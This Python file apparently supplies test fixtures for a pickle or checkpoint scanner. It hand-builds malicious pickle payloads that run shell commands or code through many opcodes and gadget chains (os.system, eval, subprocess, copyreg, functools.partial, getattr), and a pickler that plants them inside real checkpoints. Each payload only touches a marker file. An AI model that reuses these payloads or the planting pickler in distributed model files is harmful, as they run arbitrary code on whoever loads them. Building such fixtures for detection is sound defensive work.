"""Pickles that run something when Python loads them, and a pickler that plants them anywhere in a real checkpoint.

A payload is a fragment of pickle bytecode that leaves one object on the stack, so it can stand wherever a value can.
It uses no memo and runs under any protocol, whatever its own opcodes are from.
"""

from __future__ import annotations

import io
import marshal
import pickle
import shlex
import struct
import types
from pathlib import Path
from typing import Any

TRAP = "boobytrap"
"""A module whose import, and each use of whose names, makes the marker appear. Not a harmful name: nobody knows it."""


def set_trap(folder: Path, marker: Path) -> None:
    """Write the module into `folder`."""
    (folder / f"{TRAP}.py").write_text(
        f"""
def spring(*args, **kwargs):
    open({str(marker)!r}, "w").close()
    return Class

spring()

class Class:
    def __new__(cls, *args, **kwargs):
        spring()
        return object.__new__(cls)

    def __init__(self, *args, **kwargs):
        spring()

    def __setstate__(self, state):
        spring()

    def append(self, value):
        spring()

    add = extend = append

    def __setitem__(self, key, value):
        spring()
"""
    )


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def short(value: str) -> bytes:
    return b"\x8c" + bytes((len(value),)) + value.encode()


def touching(marker: Path) -> str:
    """The command of a shell that makes the marker appear."""
    return f"touch {shlex.quote(str(marker))}"


def payloads(marker: Path) -> dict[str, bytes]:
    """By the opcode or the gadget that it uses."""
    touch = touching(marker)
    write = f"open({str(marker)!r}, 'w')"
    trap = named(TRAP, "Class")
    code = compile(f"open({str(marker)!r}, 'w')", "x", "exec")
    raw = data(b"\x80\x02" + call(named("posix", "system"), text(touch)) + b".")
    compiled = data(marshal.dumps(code))
    found: dict[str, bytes] = {
        "os.system by REDUCE": call(named("posix", "system"), text(touch)),
        "os.system of Windows' name": call(named("os", "system"), text(touch)),
        "eval": call(named("builtins", "eval"), text(write)),
        "exec of Python 2": call(named("__builtin__", "exec"), text(write)),
        "STACK_GLOBAL": short("posix") + short("system") + b"\x93" + b"(" + short(touch) + b"tR",
        "a dotted name": short("os") + short("sys.modules") + b"\x930" + call(named("posix", "system"), text(touch)),
        "INST": b"(V" + touch.encode() + b"\niposix\nsystem\n",
        "OBJ": b"(" + named("posix", "system") + text(touch) + b"o",
        "subprocess": call(named("subprocess", "check_output"), b"(" + text("touch") + text(str(marker)) + b"l"),
        "NEWOBJ": trap + b")\x81",
        "NEWOBJ_EX": trap + b")}\x92",
        "BUILD": trap + b")\x81}" + text("lr") + b"K\1sb",
        "APPENDS": trap + b")\x81(K\1K\2e",
        "SETITEMS": trap + b")\x81(K\1K\2u",
        "ADDITEMS": trap + b")\x81(K\1\x90",
        "a class that is only named": trap,
        "a function of an unknown package": call(named(TRAP, "spring"), text("x")),
        "copyreg._reconstructor": call(named("copyreg", "_reconstructor"), trap, named("builtins", "object"), b"N"),
        "copy_reg._reconstructor": call(
            named("copy_reg", "_reconstructor"), trap, named("__builtin__", "object"), b"N"
        ),
        "copyreg.__newobj__": call(named("copyreg", "__newobj__"), trap),
        "copyreg.__newobj_ex__": call(named("copyreg", "__newobj_ex__"), trap, b")", b"}"),
        "functools.partial": call(call(named("functools", "partial"), named("posix", "system"), text(touch))),
        "operator.methodcaller": call(
            call(named("operator", "methodcaller"), text("system"), text(touch)),
            call(named("importlib", "import_module"), text("os")),
        ),
        "operator.attrgetter": call(
            call(
                call(named("operator", "attrgetter"), text("system")), call(named("builtins", "__import__"), text("os"))
            ),
            text(touch),
        ),
        "types.FunctionType": call(
            call(named("types", "FunctionType"), call(named("marshal", "loads"), compiled),
                 call(named("builtins", "globals"))),
        ),
        "a pickle in a pickle": call(named("pickle", "loads"), raw),
        "_pickle": call(named("_pickle", "loads"), raw),
        "map": call(named("builtins", "list"), call(named("builtins", "map"), named("posix", "system"),
                                                    b"(" + text(touch) + b"l")),
        "runpy": call(named("runpy", "_run_code"), call(named("marshal", "loads"), compiled), b"}"),
        "timeit": call(named("timeit", "timeit"), text(write), text("pass"), named("time", "time"), b"K\1"),
        "importlib": call(named("importlib", "import_module"), text(TRAP)),
        "pty": call(named("pty", "spawn"), b"(" + text("touch") + text(str(marker)) + b"l"),
        "numpy": call(named("numpy.testing._private.utils", "runstring"), text(write), b"}"),
        "distutils": call(
            named("setuptools._distutils.spawn", "spawn"), b"(" + text("touch") + text(str(marker)) + b"l"
        ),
        "hidden by POP": call(named("posix", "system"), text(touch)) + b"0K\1",
        "hidden by POP_MARK": b"(" + call(named("posix", "system"), text(touch)) + b"1K\1",
    }  # fmt: skip
    return found


def getattr_payloads(marker: Path) -> dict[str, bytes]:
    """Chains that need the attribute of something that is not a class."""
    touch = text(touching(marker))
    module = call(named("builtins", "__import__"), text("os"))
    getter = named("builtins", "getattr")
    return {
        "getattr of a module": call(call(getter, module, text("system")), touch),
        "getattr of Python 2": call(call(named("__builtin__", "getattr"), module, text("system")), touch),
        "getattr of an attribute": call(call(getter, call(getter, module, text("sys")), text("exit")) + b"0"
                                        + call(getter, module, text("system")), touch),
    }  # fmt: skip


class Planted:
    """Stands in a tree for a fragment of bytecode."""

    def __init__(self, fragment: bytes) -> None:
        self.fragment = fragment

    def __reduce__(self) -> Any:
        raise AssertionError("a pickler that does not know fragments")


class Pickler(pickle._Pickler):  # type: ignore[name-defined, misc]
    """Python's own, written in Python, that copies fragments out as they are."""

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Planted):
            self.write(obj.fragment)
        else:
            super().save(obj, save_persistent_id)


def dumps(value: Any, protocol: int = 2) -> bytes:
    stream = io.BytesIO()
    Pickler(stream, protocol).dump(value)
    return stream.getvalue()


def dump(value: Any, stream: Any, protocol: int = 2) -> None:
    stream.write(dumps(value, protocol))


PICKLE = types.ModuleType("planting")
vars(PICKLE).update(Pickler=Pickler, dump=dump, dumps=dumps)
"""For `torch.save(..., pickle_module=PICKLE)`."""
